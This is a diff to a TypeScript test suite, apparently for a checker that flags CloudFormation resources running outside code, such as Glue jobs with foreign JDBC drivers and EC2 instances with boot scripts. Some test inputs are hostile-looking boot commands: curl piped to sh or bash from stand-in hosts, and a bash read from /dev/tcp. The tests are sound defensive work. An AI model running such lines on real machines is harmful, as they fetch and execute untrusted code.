@@ -33,6 +33,27 @@ const instance = (more: object) => (r: Resources) => {
   r.Profile = { Type: 'AWS::IAM::InstanceProfile', Properties: { Roles: [{ Ref: 'RedactRole' }] } };
   r.Runs = { Type: 'AWS::EC2::Instance', Properties: { IamInstanceProfile: { Ref: 'Profile' }, ...more } };
 };
+/** A job, or a crawler, over a connection of these templates. */
+const connection = (ConnectionType: unknown, ConnectionProperties: object = {}, more: object = {}) => ({
+  Type: 'AWS::Glue::Connection',
+  Properties: { ConnectionInput: { Name: 'c', ConnectionType, ConnectionProperties, ...more } },
+});
+const over =
+  (
+    made: object | undefined,
+    runs: (r: Resources) => void = job({ ...script(OURS), Connections: { Connections: ['c'] } }),
+  ) =>
+  (r: Resources) => {
+    if (made) r.Connection = made;
+    runs(r);
+  };
+const crawl = made('Glue::Crawler', { Role: ROLE, Targets: { JdbcTargets: [{ ConnectionName: 'c', Path: 'x/%' }] } });
+const DRIVER = { JDBC_DRIVER_JAR_URI: THEIRS };
+/** Commands with which a machine begins, on an image of AWS. */
+const AL = '{{resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64}}';
+const begins = (...lines: unknown[]) =>
+  instance({ ImageId: AL, UserData: { 'Fn::Base64': { 'Fn::Join': ['\n', ['#!/bin/bash', ...lines]] } } });
+const source = (type: string, more: object) => made(type, more);
 const KEYED = { KeyName: 'of-a-person' };
 const IMAGE = 'docker.io/somebody/else:latest';
 const REGISTRY = '444455556666.dkr.ecr.eu-west-1.amazonaws.com/x:1';
@@ -230,6 +251,43 @@ it.each<[string, (r: Resources) => void, string]>([
     machine({ DefinitionString: `{"States":{"A":{"Resource":"${VARIABLE}"}}}` }),
     'undecided',
   ],
+  ['a job over a connection of others', over(undefined), 'undecided'],
+  ['a job over a connection with a driver', over(connection('JDBC', DRIVER)), 'undecided'],
+  ['a job over a connector', over(connection('CUSTOM', { CONNECTOR_TYPE: 'Jdbc' })), 'undecided'],
+  ['a job over a connector of the marketplace', over(connection('MARKETPLACE')), 'undecided'],
+  ['a job over a connection whose kind is not known', over(connection({ 'Fn::ImportValue': 'kind' })), 'undecided'],
+  [
+    'a job over a connection with settings of Spark',
+    over(connection('JDBC', {}, { SparkProperties: { 'spark.jars': THEIRS } })),
+    'undecided',
+  ],
+  ['a crawler over a connection with a driver', over(connection('JDBC', DRIVER), crawl), 'undecided'],
+  [
+    'a machine with an image of another publisher',
+    instance({ ImageId: AL.replace('ami-amazon-linux', 'x') }),
+    'undecided',
+  ],
+  ['a machine that begins with commands of an address', begins('curl -s https://theirs/x | sh'), 'undecided'],
+  ['a machine that begins with an object of others', begins('aws s3 cp s3://somebody-elses/x /x'), 'undecided'],
+  ['a machine that begins with a host', begins('curl -s theirs.example/x|bash'), 'undecided'],
+  ['a machine that begins with packages of an index', begins('pip3 install -i theirs x'), 'undecided'],
+  ['a machine that begins with a socket', begins('bash < /dev/tcp/10.0.0.1/80'), 'undecided'],
+  ['a machine that begins with a repository', begins('git clone git@theirs:x.git'), 'undecided'],
+  ['a machine that begins with commands of the metadata', begins('/opt/aws/bin/cfn-init -s x'), 'undecided'],
+  ['a machine that begins with what the deployment says', begins({ 'Fn::ImportValue': 'commands' }), 'undecided'],
+  [
+    'a source of an API',
+    source('AppSync::DataSource', { ApiId: 'a', Name: 's3', Type: 'HTTP', ServiceRoleArn: ROLE }),
+    'refuted',
+  ],
+  [
+    'a source of a dashboard',
+    source('QuickSight::DataSource', {
+      DataSourceParameters: { AthenaParameters: { RoleArn: ROLE } },
+      Permissions: [{ Principal: 'arn:aws:quicksight:eu-west-1:111122223333:group/default/all', Actions: [] }],
+    }),
+    'refuted',
+  ],
   ['an automation', document({ assumeRole: ROLE, mainSteps: [] }), 'undecided'],
   ['an automation as a text', document({ 'Fn::Join': ['', ['assumeRole: "', ROLE, '"\nmainSteps: []']] }), 'undecided'],
   ['a function with code of others', coded({ S3Bucket: 'theirs', S3Key: 'x' }), 'undecided'],
@@ -256,6 +314,13 @@ it.each<[string, (r: Resources) => void]>([
     schedule('arn:aws:scheduler:::aws-sdk:s3:copyObject', 'arn:aws:iam::111122223333:role/aside'),
   ],
   ['a machine without a key pair', instance({})],
+  ['a machine with an image of AWS', instance({ ImageId: AL })],
+  ['a machine that begins with commands of the template', begins('dnf install -y jq', 'systemctl start worker')],
+  ['a machine that begins with an asset of the account', begins(`aws s3 cp ${ASSETS} /x`)],
+  ['a job over a network', over(connection('NETWORK'))],
+  ['a job over a database', over(connection('JDBC', { JDBC_CONNECTION_URL: 'jdbc:postgresql://db/x' }))],
+  ['a crawler over a database', over(connection('JDBC'), crawl)],
+  ['a source of an API that has no role', source('AppSync::DataSource', { ApiId: 'a', Name: 'n', Type: 'NONE' })],
   ['a job in an image of the account', jobOf({ ContainerProperties: { JobRoleArn: ROLE, Image: OWN_IMAGE } })],
   ['a model of these templates', model({ Image: OWN_IMAGE, ModelDataUrl: OURS, Environment: { LEVEL: '1' } })],
   ['a notebook', notebook({})],
@@ -317,7 +382,6 @@ it.each<[string, (r: Resources) => void, string]>([
 
 /** Types that run as a role and take no programs, images or people by a property, why. */
 const CLOSED: Readonly<Record<string, string>> = {
-  'AWS::Glue::Crawler': 'is a program of AWS: what its tables show is a finding of its own',
   'AWS::Athena::WorkGroup': 'is asked about by itself',
   'AWS::KinesisFirehose::DeliveryStream': 'is a program of AWS, whose ways are flows',
 };
